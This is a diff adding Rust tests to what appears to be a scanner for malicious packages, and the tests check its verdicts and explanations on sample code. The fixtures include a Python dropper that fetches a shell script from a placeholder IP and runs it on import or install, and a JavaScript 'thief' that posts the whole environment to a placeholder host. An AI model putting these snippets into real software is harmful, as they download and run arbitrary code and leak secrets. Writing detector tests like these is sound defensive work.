@@ -148,3 +148,51 @@ fn an_encoded_default_is_what_a_caller_leaves_out() {
     assert_eq!(verdict, "malicious", "{found:?}");
     assert!(found.iter().any(|id| id == "exfiltration/hidden-address"), "{found:?}");
 }
+
+/// A sentence says when it happens: on installation, on import, or both.
+#[test]
+fn a_sentence_says_at_which_time() {
+    let fetch = "import os\nimport urllib.request\n\nurllib.request.urlretrieve('http://192.0.2.9/x.sh', '/tmp/x.sh')\nos.system('sh /tmp/x.sh')\n";
+    let setup = "from setuptools import setup\nsetup(name='when', version='1.0', packages=['when'])\n";
+    let sentence = |files: &[(&str, &str)]| {
+        let place = files.iter().fold(Place::new(), |place, (name, text)| place.file(&format!("pkg/{name}"), text));
+        let out = place.run(&["review", "pkg", "--format", "json", "--fail-on", "none"]).stdout;
+        let review: serde_json::Value = serde_json::from_str(&out).unwrap();
+        let found = review["behaviors"].as_array().unwrap().clone();
+        let unasked = found.iter().find(|found| found["id"] == "dropper/unasked").unwrap();
+        unasked["sentence"].as_str().unwrap().to_owned()
+    };
+    let on_import = sentence(&[("setup.py", setup), ("when/__init__.py", fetch)]);
+    assert!(on_import.starts_with("As soon as it is imported, it downloads"), "{on_import}");
+    let on_install = sentence(&[("setup.py", &format!("{fetch}{setup}"))]);
+    assert!(on_install.starts_with("As soon as it is installed, it downloads"), "{on_install}");
+}
+
+/// An environment is read by name; only the whole of it is the whole.
+#[test]
+fn a_variable_of_the_environment_is_not_the_environment() {
+    let text = "const env = process.env;\nconst key = env.SERVICE_KEY;\nfetch('https://api.example.invalid/v1', { method: 'POST', headers: { 'X-Key': key }, body: JSON.stringify({ a: 1 }) });\n";
+    let found = paths("client.js", text);
+    assert!(found.contains("environment process.env(SERVICE_KEY) -> network.send fetch(headers) proven"), "{found}");
+    let (verdict, behaviors) = judged(&[("client.js", text)]);
+    assert_eq!(verdict, "benign", "{behaviors:?}");
+    let text = "const env = process.env;\nconst home = env.HOME;\nfetch('https://api.example.invalid/v1', { method: 'POST', body: JSON.stringify(env) });\n";
+    let (verdict, behaviors) = judged(&[("thief.js", text)]);
+    assert_eq!(verdict, "malicious", "{behaviors:?}");
+}
+
+/// What is replaced in a text is gone from it.
+#[test]
+fn a_secret_that_is_replaced_is_not_told_as_logged() {
+    let text = "import os\n\ndef show(text):\n    print(text.replace(os.environ['SERVICE_TOKEN'], '***'))\n";
+    let found = paths("show.py", text);
+    assert!(!found.contains("environment os.environ(SERVICE_TOKEN) -> log"), "{found}");
+}
+
+/// What is written into a buffer in memory, or printed, is no file.
+#[test]
+fn a_buffer_in_memory_is_no_file() {
+    let text = "import io\nimport json\n\ndef dump(rows):\n    buffer = io.StringIO()\n    json.dump(rows, buffer)\n    return buffer.getvalue()\n";
+    let found = paths("dump.py", text);
+    assert!(!found.contains("file.write"), "{found}");
+}
